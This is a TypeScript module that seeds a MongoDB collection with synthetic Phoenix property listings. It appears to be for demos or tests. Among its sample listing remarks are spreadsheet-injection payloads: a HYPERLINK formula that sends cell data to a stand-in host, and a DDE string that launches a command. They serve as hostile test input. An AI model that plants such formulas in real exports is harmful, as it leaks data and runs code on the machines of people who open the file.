import type { Db } from 'mongodb';
import type { Fact, FactValue } from '../core/schemas/facts.js';
import type { SourceName } from '../core/schemas/names.js';
import type { StoredRecord } from '../core/schemas/property.js';
import { composeProperty } from '../domain/compose.js';
import { type ProcessedPropertyDocument, toProcessedDocument } from '../domain/document-shape.js';
import { describeByRules } from '../domain/rules.js';

const BATCH = 1_000;
export const ZIPS: readonly string[] = ['85031', '85033', '85035'];
/** Texts as hostile pages hold them: what a spreadsheet would run, line ends, quotes, other alphabets. */
const REMARKS = [
  'Updated kitchen with new counters. Owned solar panels, flood irrigation, RV gate and no HOA!',
  '=HYPERLINK("http://site.example/?"&A1,"see photos")',
  '"+1+cmd|\' /C calc\'!A0", he said; @SUM(1)\r\n-2+3',
  'Casa bonita con jardín, techo nuevo — 冷暖房完備, "como nueva"',
];

/** Fills the read model with properties composed as the product composes them; the same number gives the same ones. */
export async function seedProperties(db: Db, count: number): Promise<void> {
  const shown = db.collection<Omit<ProcessedPropertyDocument, 'processed_at'> & { processed_at: Date }>(
    'processed_properties',
  );
  for (let from = 0; from < count; from += BATCH) {
    const numbers = Array.from({ length: Math.min(BATCH, count - from) }, (_, at) => from + at);
    await shown.insertMany(numbers.map(propertyOf), { ordered: false });
  }
}

function propertyOf(number: number): Omit<ProcessedPropertyDocument, 'processed_at'> & { processed_at: Date } {
  const { parcel, propertyId, zip, county: countyValues, listing: listingValues } = homeOf(number);
  const county = recordOf('maricopa-assessor', parcel, propertyId, zip, countyValues);
  const records =
    listingValues === null ? [county] : [county, recordOf('phoenix-mls', `L${number}`, propertyId, zip, listingValues)];
  const property = composeProperty(propertyId, records, {});
  const at = new Date(Date.UTC(2026, 10, 1 + (number % 20), 10));
  const origin = { mode: 'demo', market: 'phoenix', runKey: 'seeded', processedAt: at.toISOString() } as const;
  const words = { ...describeByRules(property), description: REMARKS[number % REMARKS.length] ?? '' };
  return { ...toProcessedDocument(property, words, 0.9, origin, property.recordIds), processed_at: at };
}

/** A home by its number, as its sources state it. The same number gives the same one. */
export interface FilledHome {
  readonly parcel: string;
  readonly propertyId: string;
  readonly zip: string;
  readonly county: Readonly<Record<string, FactValue>>;
  /** Null for the one of four that is not for sale. */
  readonly listing: Readonly<Record<string, FactValue>> | null;
}

/** What the sources state about a home. */
export function homeOf(number: number): FilledHome {
  const parcel = String(10_000_000 + number);
  const zip = ZIPS[number % ZIPS.length] ?? '';
  const county = {
    ParcelNumber: parcel,
    UnparsedAddress: `${4_000 + (number % 5_000)} N ${30 + (number % 60)}TH AVE PHOENIX, AZ ${zip}`,
    City: 'PHOENIX',
    PostalCode: zip,
    PropertyType: 'Residential',
    PropertySubType: 'Single Family Residence',
    LivingArea: 900 + (number % 2_000),
    LotSizeSquareFeet: 5_000 + (number % 4_000),
    YearBuilt: 1950 + (number % 70),
    Latitude: 33.5 + (number % 1_000) / 10_000,
    Longitude: -112.2 + (number % 1_000) / 10_000,
  };
  const listing = {
    ListingKey: `L${number}`,
    ParcelNumber: parcel,
    StandardStatus: 'Active',
    ListPrice: 200_000 + (number % 400) * 1_000,
    BedroomsTotal: number % 6,
    BathroomsFull: 1 + (number % 3),
    PublicRemarks: REMARKS[number % REMARKS.length] ?? '',
  };
  const propertyId = `us-az-maricopa:${parcel}`;
  return { parcel, propertyId, zip, county, listing: number % 4 === 3 ? null : listing };
}

function recordOf(
  source: SourceName,
  key: string,
  propertyId: string,
  zip: string,
  values: Readonly<Record<string, FactValue>>,
): StoredRecord {
  const evidence = { source, kind: 'parcel', rawRef: `raw-${key}`, fetchId: `fetch-${key}` };
  const facts = Object.entries(values).map(([name, value]): Fact => {
    return { ...evidence, name, value, path: `$.${name}`, fetchedAt: '2026-11-01T10:00:00.000Z' };
  });
  return { recordId: `${source}:${key}`, source, key, propertyId, zip, facts };
}
